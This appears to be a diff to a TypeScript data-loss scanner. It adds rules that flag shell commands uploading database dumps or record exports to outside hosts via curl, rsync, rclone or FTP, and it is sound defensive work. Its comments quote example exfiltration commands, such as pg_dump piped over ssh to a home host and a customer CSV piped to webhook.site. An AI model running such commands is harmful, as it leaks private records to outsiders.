@@ -9,6 +9,8 @@
 // (`pg_dump … | ssh me@home.dyndns.org 'cat > d'`, read in shell-commands.ts and shell.ts).
 
 import { bulkDataFile } from './bulk-data-files.ts';
+import { outsideDestination } from './outside-destinations.ts';
+import { ftpScriptUploadRule } from './shell-ftp-scripts.ts';
 import { quote } from './findings.ts';
 import {
   bucketOf,
@@ -174,9 +176,15 @@ const PACKERS = new Set(['tar', 'gzip', 'zip', 'bzip2', 'xz', 'zstd', '7z', 'pig
 /** A sender of records in bulk to a foreign host is critical; the host is remembered for the pipeline rules. */
 function networkSenderRule(c: RuleContext, texts: readonly string[]): void {
   const target = texts.find((text) => foreignDestination(text.replace(/^-\w*=/, '')) !== undefined);
-  if (target === undefined) return;
+  if (target === undefined) return bulkSentToOutsideUrl(c, texts);
   const where = `${foreignDestination(target.replace(/^-\w*=/, ''))} ${quote(target)}`;
   c.summary.foreignHost = where;
+  const bulk = sentFiles(c, texts).find((file) => bulkDataFile(file) !== undefined);
+  if (bulk !== undefined) c.scan.add('critical', `shell: sends a ${bulkDataFile(bulk)} ${quote(bulk)} to a ${where} (${c.name})`);
+}
+
+/** Files a sender uploads (`-T f`, `--data-binary @f`, `-F file=@f`, `< f`). */
+function sentFiles(c: RuleContext, texts: readonly string[]): string[] {
   const sent: string[] = [];
   texts.forEach((text, i) => {
     const file = uploadedFile(text) ?? /^--(?:upload|post|body)-file=(.+)$/.exec(text)?.[1];
@@ -184,12 +192,24 @@ function networkSenderRule(c: RuleContext, texts: readonly string[]): void {
     else if (i > 0 && SENT_FILE_OPTION.test(texts[i - 1])) sent.push(text);
   });
   for (const redirect of c.site.redirs) if (redirect.op === 56) sent.push(redirect.target.text);
-  const bulk = sent.find((file) => bulkDataFile(file) !== undefined);
-  if (bulk !== undefined) c.scan.add('critical', `shell: sends a ${bulkDataFile(bulk)} ${quote(bulk)} to a ${where} (${c.name})`);
+  return sent;
+}
+
+/** Records in bulk uploaded to a URL whose host is not shown to be the organisation's own (`outside-destinations.ts`). */
+function bulkSentToOutsideUrl(c: RuleContext, texts: readonly string[]): void {
+  const url = texts.find((text) => /^(?:https?|s?ftps?):\/\//i.test(text) && outsideDestination(text, NO_OWN_DOMAINS) !== undefined);
+  if (url === undefined) return;
+  const bulk = sentFiles(c, texts).find((file) => bulkDataFile(file) !== undefined);
+  if (bulk !== undefined)
+    c.scan.add(
+      'critical',
+      `shell: sends a ${bulkDataFile(bulk)} ${quote(bulk)} to a ${outsideDestination(url, NO_OWN_DOMAINS)} ${quote(url)} (${c.name})`,
+    );
 }
 
 /** A copy of data to a foreign place is critical. */
 export function foreignCopyRule(c: RuleContext): void {
+  ftpScriptUploadRule(c);
   const texts = c.args.map((word) => word.text);
   if (NETWORK_SENDERS.has(c.name)) return networkSenderRule(c, texts);
   // `cat exports/customers.csv | curl … https://webhook.site/…`: what a reader or packer prints is the records.
@@ -217,7 +237,7 @@ export function foreignCopyRule(c: RuleContext): void {
         ? 'storage account reached with a personal profile'
         : sharingBucket(destination)
       : foreignTarget(destination, sources, personal);
-  if (foreign === undefined) return;
+  if (foreign === undefined) return bulkToOutsideHost(c, parsed, sources, destination);
   const recursive = hasFlag(parsed, 'r', 'R', 'a', '--recursive', '--archive') || c.name === 'rclone';
   for (const source of sources) {
     const why = dataIn(source, recursive);
@@ -230,3 +250,25 @@ export function foreignCopyRule(c: RuleContext): void {
     return;
   }
 }
+
+/** rclone's inline remote (`:sftp,host=45.33.12.9,user=x:/dump/`) written as the host it names. */
+function inlineRemoteHost(destination: string): string {
+  const host = /^:\w+,(?:[^:]*,)?host=([\w.-]+)/.exec(destination)?.[1];
+  return host === undefined ? destination : `${host}:`;
+}
+
+/** Records in bulk copied to a named host that is not the organisation's own (`outside-destinations.ts`). */
+function bulkToOutsideHost(c: RuleContext, parsed: ReturnType<typeof parseOptions>, sources: readonly string[], destination: string): void {
+  const target = inlineRemoteHost(destination);
+  const bulk = sources.find((source) => bulkDataFile(source.replace(/^[\w.-]+@[\w.-]+:/, '')) !== undefined);
+  if (bulk === undefined || bucketOf(target) !== undefined) return;
+  const outside = foreignDestination(target) ?? outsideDestination(target, NO_OWN_DOMAINS);
+  if (outside === undefined) return;
+  const dryRun = hasFlag(parsed, '--dry-run', '--dryrun') || (c.name === 'rsync' && hasFlag(parsed, 'n'));
+  c.scan.add(
+    dryRun ? 'high' : 'critical',
+    `shell: copies ${bulkDataFile(bulk.replace(/^[\w.-]+@[\w.-]+:/, ''))} ${quote(bulk)} to a ${outside} ${quote(destination)} (${c.name})${dryRun ? ', as a dry run' : ''}`,
+  );
+}
+
+const NO_OWN_DOMAINS: ReadonlySet<string> = new Set();
